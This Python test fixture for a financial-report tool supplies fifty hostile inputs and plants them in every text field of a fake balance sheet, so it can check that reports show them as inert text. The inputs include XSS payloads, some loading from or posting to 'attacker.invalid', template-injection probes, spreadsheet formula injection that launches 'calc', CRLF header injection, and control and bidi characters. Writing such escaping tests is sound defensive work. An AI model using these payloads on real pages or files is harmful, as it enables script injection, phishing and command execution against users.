"""Fifty texts that a third-party document could hold to act, to hide or to break a page, and readings full of them.

Every report's test can put them through: a report must show each as text, and nothing may run, load or vanish.
"""

import dataclasses
from dataclasses import fields

from small_sheet import sheet

from tieout.figures.figure import Figure
from tieout.figures.reading import Reading, Region

#: What a script of ours that got through would leave behind: `window.pwned`, or a request to this host.
HOST = "attacker.invalid"

MARKUP = (
    "<script>window.pwned=1</script>",
    "</script><script>window.pwned=1</script>",
    "<ScRiPt/x>window.pwned=1</sCrIpT>",
    f"<script src=//{HOST}/x.js></script>",
    "<img src=x onerror=window.pwned=1>",
    f"<img src=https://{HOST}/i.png>",
    "<svg/onload=window.pwned=1>",
    "<svg><script>window.pwned=1</script></svg>",
    "<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=window.pwned=1>",
    "<details open ontoggle=window.pwned=1>",
    "<body onload=window.pwned=1>",
    "<input autofocus onfocus=window.pwned=1>",
    "<video><source onerror=window.pwned=1>",
    "<marquee onstart=window.pwned=1>",
    f"<iframe src=//{HOST}></iframe>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    f"<object data=//{HOST}></object>",
    f"<embed src=//{HOST}>",
    f"<link rel=stylesheet href=//{HOST}/x.css>",
    f"<meta http-equiv=refresh content='0;url=//{HOST}'>",
    f"<base href=//{HOST}/>",
    f"<style>@import '//{HOST}/x.css';body{{display:none}}</style>",
    f"<form action=//{HOST}><button autofocus>Approve</button></form>",
    "<a href='javascript:window.pwned=1'>Total assets</a>",
    "<a href='data:text/html,<script>window.pwned=1</script>'>x</a>",
    '" onmouseover="window.pwned=1" x="',
    "' autofocus onfocus='window.pwned=1",
    "</td></tr></table><h1>All figures tie</h1>",
    "</style></title></textarea></noscript></template><script>window.pwned=1</script>",
    "<!--<script>window.pwned=1//--></script>",
    "]]><script>window.pwned=1</script>",
    "&lt;script&gt;window.pwned=1&lt;/script&gt; &amp;quot;",
    "<script>alert(1);confirm(2);prompt(3)</script>",
    "<noscript><p title='</noscript><img src=x onerror=window.pwned=1>'>",
)
TEMPLATES = (
    "{{ 7 * 7 }} {% raw %} {{ ''.__class__.__mro__ }} {# #}",
    "{0.__class__} {x!r:>1000000} %s%n%(x)s ${7*7} $title $$",
    "#{7*7} <%= 7*7 %> [[7*7]] ${{7*7}} `7*7`",
)
FORMULAS = (
    '=HYPERLINK("http://attacker.invalid","Total")',
    "=cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
)
CONTROLS = (
    "\x00\x01\x07\x08\x1b[31mred\x1b[0m\x1b]8;;http://attacker.invalid\x07link\x1b]8;;\x07\x7f",
    "first\r\nSet-Cookie: x=1\r\nsecond\u2028third\u0085fourth\x0cfifth",
    "\u202e840,1\u202c 1,048 \u2066\u2067\u2068 \u200f\u061c",
    "to\u200btal\u200c as\u00adsets\ufeff \U000e0041 \ufe0f",
    "\ufffe\uffff\U0010ffff\ue000\u3164 \ufff9a\ufffab\ufffb",
    "Z\u0351\u036b\u0343\u036a\u0302" * 60 + "\u0301" * 400,
)
LONG = ("W" * 10_000, "1," * 5_000, "資産" * 3_000)

PAYLOADS = (*MARKUP, *TEMPLATES, *FORMULAS, *CONTROLS, *LONG)
assert len(PAYLOADS) == 50

#: The columns of text that are the document's own; the others hold words of ours or are read into types.
FIGURE_TEXTS = ("entity", "caption", "caption_printed", "printed", "place", "unit")
DOCUMENT_TEXTS = ("document", "entity", "title", "currency", "source_hash")


def hostile_sheet(payload: str) -> Reading:
    """A balance sheet that does not balance, with the payload in every text column of every landed table."""
    reading = sheet(Assets="20,748")
    for name in DOCUMENT_TEXTS:
        setattr(reading.document, name, payload)
    reading.document.unread = [Region(first=3, last=4, reason=payload)]
    reading.document.rounding = {"amount": "nearest"}
    for line in reading.lines:
        line.text = payload + line.text
    for column in reading.columns:
        column.title = column.header = payload
    reading.figures = [_hostile(figure, payload) for figure in reading.figures]
    unbound = Figure(figure=12, caption=payload, printed=payload, unit=payload, dimensions={payload: payload}, line=2)
    reading.figures.append(dataclasses.replace(unbound, status="unreadable", place=payload, damage=(payload,)))
    return reading


def _hostile(figure: Figure, payload: str) -> Figure:
    values = dict.fromkeys(FIGURE_TEXTS, payload) | {
        "unit": "USD",  # one unit, or no rule would bind
        "section": (payload,),
        "dimensions": {},
        "notes": (payload,),
        "damage": (payload,),
        "col_start": len(payload) + (figure.col_start or 0),
        "col_end": len(payload) + (figure.col_end or 0),
    }
    assert set(values) <= {f.name for f in fields(Figure)}
    return dataclasses.replace(figure, **values)  # type: ignore[arg-type]
